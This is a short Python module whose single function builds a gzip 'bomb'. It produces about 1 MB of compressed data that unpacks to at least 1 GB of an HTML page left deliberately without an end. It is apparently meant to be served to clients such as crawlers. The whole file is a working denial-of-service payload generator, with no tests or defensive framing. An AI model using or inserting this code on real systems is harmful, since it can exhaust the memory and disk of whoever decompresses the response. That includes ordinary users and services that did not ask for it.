"""A small answer that unpacks without end."""

from __future__ import annotations

import zlib
from functools import cache

UNPACKED = 1 << 30
"""What it unpacks to, at least."""

_BLOCK = 1 << 20


@cache
def bomb() -> bytes:
    """Return about 1 MB of gzip that unpacks to 1 GB of a page, and whose end never comes.

    A block that is flushed in full repeats as it stands, so that none of it need be packed again.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits=31)
    start = packer.compress(b"<!DOCTYPE html><html><body><p>") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * _BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + block * (UNPACKED // _BLOCK + 1)
